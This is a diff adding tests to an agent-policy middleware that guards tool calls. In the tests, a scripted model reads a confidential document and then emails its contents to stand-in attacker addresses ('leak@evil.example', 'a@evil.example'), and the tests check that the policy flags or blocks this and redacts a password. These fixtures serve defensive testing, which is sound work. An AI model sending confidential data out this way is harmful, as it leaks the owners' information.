@@ -2,6 +2,7 @@ import { HumanMessage } from "@langchain/core/messages";
 import { MemorySaver } from "@langchain/langgraph";
 import { createAgent } from "langchain";
 import { describe, expect, it, vi } from "vitest";
+import { z } from "zod";
 import { mandateMiddleware } from "../src/index.ts";
 import { callTools, kindsFor, say, schemas, scripted, setup, spyTool, toolMessages } from "./helpers.ts";
 
@@ -43,6 +44,68 @@ describe("mandateMiddleware: enforcement", () => {
     expect(kindsFor(sink.events, "c_read")).toEqual(["tool.request", "tool.decision", "tool.result"]);
     expect(kindsFor(sink.events, "c_mail")).toEqual(["tool.request", "tool.decision"]);
     expect(JSON.stringify(sink.events)).not.toContain(mandate);
+  });
+
+  it("monitor mode: the call the policy denies runs, and the trace marks it as would-be denied", async () => {
+    const { guard, sink, mandate } = await setup({ mode: "monitor" });
+    const readDoc = spyTool("read_doc", schemas.readDoc, () => "Q3 numbers: 42");
+    const sendEmail = spyTool("send_email", schemas.sendEmail);
+    const model = scripted(
+      callTools("ai-1", [{ name: "read_doc", args: { id: "q3" }, id: "c_read" }]),
+      callTools("ai-2", [
+        { name: "send_email", args: { to: "leak@evil.example", body: "42" }, id: "c_mail" },
+      ]),
+      say("ai-3", "Sent."),
+    );
+    const agent = createAgent({
+      model,
+      tools: [readDoc.tool, sendEmail.tool],
+      middleware: [mandateMiddleware({ guard })],
+    });
+    const out = await agent.invoke(
+      { messages: [new HumanMessage("mail the q3 doc")], mandate },
+      cfg("mon-1"),
+    );
+
+    expect(sendEmail.fn).toHaveBeenCalledTimes(1);
+    expect(toolMessages(out.messages).find((m) => m.tool_call_id === "c_mail")?.status).toBe("success");
+    const decision = sink.events.find((e) => e.kind === "tool.decision" && e.callId === "c_mail");
+    expect(decision).toMatchObject({
+      effect: "allow",
+      enforcedEffect: "deny",
+      monitor: true,
+      ruleIds: ["no-egress-after-confidential"],
+    });
+    expect(kindsFor(sink.events, "c_mail")).toEqual(["tool.request", "tool.decision", "tool.result"]);
+  });
+
+  it("a secret argument reaches neither the trace nor the model's denial, whatever the outcome", async () => {
+    const { guard, sink, mandate } = await setup();
+    const schema = z.object({ to: z.string(), body: z.string(), password: z.string() });
+    const readDoc = spyTool("read_doc", schemas.readDoc, () => "Q3 numbers: 42");
+    const sendEmail = spyTool("send_email", schema);
+    const secret = "hunter2-SECRET-5f1c";
+    const model = scripted(
+      callTools("ai-1", [{ name: "read_doc", args: { id: "q3" }, id: "c_read" }]),
+      callTools("ai-2", [
+        { name: "send_email", args: { to: "a@evil.example", body: "42", password: secret }, id: "c_mail" },
+      ]),
+      say("ai-3", "Not sent."),
+    );
+    const agent = createAgent({
+      model,
+      tools: [readDoc.tool, sendEmail.tool],
+      middleware: [mandateMiddleware({ guard })],
+    });
+    const out = await agent.invoke({ messages: [new HumanMessage("mail it")], mandate }, cfg("secret-1"));
+
+    expect(sendEmail.fn).toHaveBeenCalledTimes(0);
+    const request = sink.events.find((e) => e.kind === "tool.request" && e.callId === "c_mail");
+    expect(String((request?.args as { preview?: string } | undefined)?.preview)).toContain(
+      '"password":"[REDACTED]"',
+    );
+    expect(JSON.stringify(sink.events)).not.toContain(secret);
+    for (const m of toolMessages(out.messages)) expect(String(m.content)).not.toContain(secret);
   });
 
   it("a tool that throws becomes an error ToolMessage and the run continues", async () => {
